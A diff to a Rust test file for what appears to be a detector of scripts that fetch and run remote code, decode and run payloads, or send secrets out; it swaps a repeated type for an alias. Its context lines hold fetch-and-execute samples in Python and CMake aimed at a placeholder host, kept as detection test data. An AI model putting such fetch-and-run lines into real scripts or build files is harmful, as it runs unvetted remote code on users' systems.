@@ -10,9 +10,12 @@ fn shell(text: &str) -> Vec<(Origin, End)> {
     ends(&read(Language::Shell, text))
 }
 
-const FETCHED: &[(Origin, End)] = &[(Origin::Fetch, End::Run)];
-const DECODED: &[(Origin, End)] = &[(Origin::Decode, End::Run)];
-const SENT: &[(Origin, End)] = &[(Origin::Secret, End::Send)];
+const FETCHED: Told = &[(Origin::Fetch, End::Run)];
+const DECODED: Told = &[(Origin::Decode, End::Run)];
+const SENT: Told = &[(Origin::Secret, End::Send)];
+
+/// What a script does, as origin and end.
+type Told = &'static [(Origin, End)];
 
 #[test]
 fn what_is_fetched_and_run_is_found_however_a_shell_spells_it() {
@@ -106,7 +109,7 @@ fn everyday_scripts_do_nothing_of_it() {
 
 #[test]
 fn other_languages_are_read_by_their_own_words() {
-    let cases: [(Language, &str, &[(Origin, End)]); 12] = [
+    let cases: [(Language, &str, Told); 12] = [
         (
             Language::Python,
             "import urllib.request\nexec(urllib.request.urlopen('https://t.invalid').read())",
@@ -202,7 +205,7 @@ fn everyday_generators_do_nothing_of_it() {
 
 #[test]
 fn build_files_are_read_as_what_they_start() {
-    let cases: [(&str, &str, &[(Origin, End)]); 9] = [
+    let cases: [(&str, &str, Told); 9] = [
         (
             "c/CMakeLists.txt",
             "file(DOWNLOAD https://t.invalid/t ${B}/t)\nexecute_process(COMMAND chmod +x ${B}/t)\nexecute_process(COMMAND ${B}/t)",
